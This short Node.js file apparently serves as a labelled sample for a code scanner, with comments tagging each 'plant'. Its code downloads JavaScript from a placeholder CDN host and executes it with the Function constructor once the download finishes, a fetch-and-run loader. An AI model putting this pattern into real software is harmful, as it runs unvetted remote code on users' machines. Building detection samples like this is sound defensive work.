// @desc: Code received over https chunk by chunk and evaluated when the response ends.
// @obfuscation: accumulated in a closure variable from 'data' events
const https = require('https'); // PLANT: network-builtin
let body = '';
https.get('https://cdn.example/p.js', (res) => {
  res.on('data', (d) => (body += d));
  res.on('end', () => new Function(body)()); // PLANT: function-constructor fetch-and-run
});
